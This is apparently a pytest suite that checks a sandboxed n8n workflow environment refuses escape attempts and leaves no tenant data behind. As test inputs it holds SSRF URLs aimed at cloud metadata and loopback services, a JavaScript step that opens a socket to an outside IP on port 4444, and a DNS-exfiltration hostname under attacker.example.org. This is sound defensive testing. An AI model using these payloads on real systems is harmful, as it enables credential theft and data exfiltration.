"""Ways out, tried for real: each is refused and told, and nothing of it reaches this machine."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import threading
from collections.abc import Iterator

import psycopg
import pytest

from tests.rehearsal.stage.plays import Json, calls_of, code, get, node, play, refused
from workforce.integrations.rehearsal import StageClient, Turn
from workforce.local.stack import Stack

SOCKET = """
const net = require('net');
return await new Promise((done) => net.connect(4444, '93.184.215.14')
  .on('connect', () => done([{ json: { out: true } }])).on('error', (e) => done([{ json: { error: e.message } }])));
"""


class Visitors:
    """A server of this machine that counts who comes."""

    def __init__(self) -> None:
        self.came = 0
        self._door = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._door.getsockname()[1]
        threading.Thread(target=self._open, daemon=True).start()

    def _open(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                visitor, _ = self._door.accept()
                self.came += 1
                visitor.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi")
                visitor.close()

    def close(self) -> None:
        self._door.close()


@pytest.fixture
def visitors() -> Iterator[Visitors]:
    server = Visitors()
    yield server
    server.close()


async def test_this_machine_is_out_of_reach(turn: Turn, visitors: Visitors) -> None:
    address = f"http://127.0.0.1:{visitors.port}/secrets"
    seen = await turn.perform(play(get("Steal", address)))
    assert (seen.status, seen.failed_step) == ("error", "Steal")
    assert refused(seen) == [address]
    assert visitors.came == 0
    assert await asyncio.to_thread(_comes_in, visitors.port) and visitors.came == 1  # the door was open, for us


def _comes_in(port: int) -> bool:
    with socket.create_connection(("127.0.0.1", port), 2) as way:
        return way.recv(4) == b"HTTP"


@pytest.mark.parametrize(
    "address",
    [
        "http://169.254.169.254/latest/meta-data/iam",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://localhost:5678/api/v1/workflows",
        "http://[::1]:8080/",
        "http://10.0.0.7/admin",
        "http://192.168.1.1/",
        "http://0.0.0.0:8000/",
        "http://2130706433/",
    ],
)
async def test_private_loopback_and_metadata_addresses_are_refused(turn: Turn, address: str) -> None:
    seen = await turn.perform(play(get("Steal", address)))
    assert seen.status == "error" and refused(seen), seen
    assert all(call.status == 0 for call in seen.calls)


@pytest.mark.parametrize("target", ["http://169.254.169.254/latest/", "http://127.0.0.1:5678/healthz"])
async def test_a_redirect_leads_nowhere_else(turn: Turn, target: str) -> None:
    rules = [{"match": "shop", "status": 302, "headers": {"location": target}, "body": ""}]
    seen = await turn.perform(play(get("Follow", "https://shop.example.org/"), rules=rules))
    assert seen.status == "error"
    assert [call.url for call in calls_of(seen, "Follow") if not call.refused] == ["https://shop.example.org/"]
    assert any(target.split("/")[2] in url for url in refused(seen)), seen.calls


async def test_a_step_of_ones_own_opens_no_socket(turn: Turn) -> None:
    seen = await turn.perform(play(code("Dig", SOCKET)))
    assert seen.status == "error" and "net" in seen.error


async def test_a_request_out_of_code_is_seen_like_any_other(turn: Turn) -> None:
    asks = "return [{ json: { got: await this.helpers.httpRequest({ url: 'http://127.0.0.1:5678/rest/settings' }) } }];"
    seen = await turn.perform(play(code("Ask", asks)))
    assert seen.status == "error"
    assert refused(seen) == ["http://127.0.0.1:5678/rest/settings"]


def redis() -> Json:
    return node("Cache", "redis", 1, {"operation": "get", "propertyName": "x", "key": "k", "options": {}}, "redis")


def ssh() -> Json:
    return node("Shell", "ssh", 1, {"command": "id", "authentication": "password"}, "sshPassword")


@pytest.mark.parametrize(("step", "port"), [(redis(), 6379), (ssh(), 22)])
async def test_what_is_not_simulated_is_refused_and_told(turn: Turn, step: Json, port: int) -> None:
    seen = await turn.perform(play(step, seconds=6))
    assert seen.status in ("error", "timeout")
    assert any(url.startswith("tcp://") and url.endswith(f":{port}") for url in refused(seen)), seen.calls


async def test_names_carry_nothing_out(turn: Turn) -> None:
    """The name server is in the sealed network, too, and knows only addresses that lead to the simulated world."""
    mongo = node("Store", "mongoDb", 1.2, {"collection": "x", "options": {}}, "mongoDb")
    seen = await turn.perform(play(mongo, seconds=6))
    assert seen.status in ("error", "timeout")
    told = await turn.perform(play(get("Spell", "https://c2vjcmv0.attacker.example.org/")))
    assert [call.url for call in told.calls] == ["https://c2vjcmv0.attacker.example.org/"]


async def test_nothing_of_a_turn_is_left(stage: StageClient, stack: Stack) -> None:
    """Neither the workflow, nor what it was given, nor what it read or made, nor what it remembered."""
    file = {"operation": "toText", "sourceProperty": "secret", "options": {}}
    new_ones = {"operation": "removeItemsSeenInPreviousExecutions", "dedupeValue": "={{ $json.secret }}"}
    async with stage.turn("a") as first:
        seen = await first.perform(
            play(
                node("Once", "removeDuplicates", 2, {**new_ones, "options": {}}),
                node("File", "convertToFile", 1.1, file),
                trigger=[{"secret": "of company A"}],
            )
        )
    assert seen.status == "success", seen
    tables = (
        "workflow_entity",
        "execution_entity",
        "execution_data",
        "webhook_entity",
        "processed_data",
        "binary_data",
    )
    with psycopg.connect(stack.postgres.url("rehearsal_n8n")) as db:
        for table in tables:
            assert db.execute(f"select count(*) from {table}").fetchone() == (0,), table
    files = [path for path in (stack.places.state / "rehearsal/n8n").rglob("*") if path.is_file()]
    assert not [path for path in files if b"of company A" in path.read_bytes()]
